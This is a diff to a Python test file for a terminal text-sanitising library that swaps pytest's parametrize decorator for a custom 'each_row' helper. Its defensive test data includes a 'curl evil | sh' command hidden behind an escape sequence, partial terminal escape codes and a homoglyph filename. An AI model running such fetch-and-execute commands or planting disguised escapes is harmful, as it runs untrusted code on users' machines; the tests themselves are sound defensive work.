@@ -29,6 +29,7 @@ from gemtui.text import (
     visible,
     visible_line,
 )
+from tests.rows import each_row
 
 CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
 BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
@@ -60,7 +61,7 @@ def test_harmless_text_is_kept_as_it_is(text: str) -> None:
     assert clean(text) == text
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "cleaned"),
     [
         ("a\tb\nc", "a\tb\nc"),
@@ -104,7 +105,7 @@ def test_cleaning_removes_only_colours_and_line_ends(text: str) -> None:
         position = cleaned.index(char, position) + 1
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "shown"),
     [
         ("ls -la \x1b]0 ; curl evil | sh", "ls -la ␛]0 ; curl evil | sh"),
@@ -145,7 +146,7 @@ def test_blanks_in_prose_stay_as_they_are() -> None:
     assert clean("10\xa0km, 漢字\u3000漢字\u202f!") == "10\xa0km, 漢字\u3000漢字\u202f!"
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "described"),
     [
         ("cat p\u0430ypal.py", ["`p\u0430ypal` mixes Latin and Cyrillic letters"]),
@@ -182,9 +183,7 @@ def test_what_differs_looks_different_or_is_marked(one: str, other: str) -> None
         assert visible(one) != visible(other)
 
 
-@pytest.mark.parametrize(
-    "evil", ["\x9d", "\x9d\n", "\x1b]", "\x1b[", "\x1b[1", "\x1b[ ", "\x1b]a\n", "\U0001f3f4\U000e0061"]
-)
+@each_row("evil", ["\x9d", "\x9d\n", "\x1b]", "\x1b[", "\x1b[1", "\x1b[ ", "\x1b]a\n", "\U0001f3f4\U000e0061"])
 def test_cleaning_takes_time_in_proportion_to_the_text(evil: str) -> None:
     def seconds(times: int) -> float:
         start = time.process_time()
@@ -212,7 +211,7 @@ def test_clean_line_is_one_line() -> None:
     assert clean_line("  a \n\t b\r\n\u2028c\x1b[0m ") == "a b c␛[0m"
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "",
@@ -252,7 +251,7 @@ def test_ellipsis_cuts_at_the_end() -> None:
     assert ellipsis(Clean("hello"), 2, mark="...") == ""
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("ago", "words"),
     [
         (timedelta(seconds=-90), "now"),
@@ -271,7 +270,7 @@ def test_relative(ago: timedelta, words: str) -> None:
     assert relative(now - ago, now) == words
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "name"),
     [
         ("Fix the parser", "Fix-the-parser"),
@@ -326,7 +325,7 @@ def test_a_number_stands_with_its_noun() -> None:
     assert [or_list("abc"[:length]) for length in (1, 2, 3)] == ["a", "a or b", "a, b or c"]
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("seconds", "text"),
     [
         (0, "0 ms"),
